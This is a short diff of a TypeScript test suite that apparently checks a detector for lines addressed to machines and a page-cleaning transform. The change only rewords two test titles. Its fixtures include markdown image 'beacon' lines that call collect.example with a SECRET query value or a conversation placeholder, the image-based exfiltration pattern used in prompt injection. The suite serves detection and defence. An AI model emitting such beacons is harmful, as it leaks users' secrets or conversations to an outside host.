@@ -90,7 +90,7 @@ describe("lines that speak to machines", () => {
     ["beacon", "![x](https://collect.example/p.png?data=SECRET)"],
     ["beacon", "![x](https://collect.example/{conversation}/p.png)"]
   ]
-  it("are told with their kind and line", () => {
+  it("are reported with their kind and line", () => {
     for (const [kind, line] of spoken) {
       assert.deepStrictEqual(addressedLines(`# One\n\n${line}\n`), [{ line: 3, kind }] as never, line)
     }
@@ -118,7 +118,7 @@ describe("lines that speak to machines", () => {
 })
 
 describe("what is kept from a text", () => {
-  it.effect("is told in the metadata of the page", () =>
+  it.effect("is reported in the metadata of the page", () =>
     Effect.gen(function*() {
       const { document } = yield* transform(
         `<title>Harbour</title><meta name="hygiene" content="clean"><style>.q{display:none}</style>`
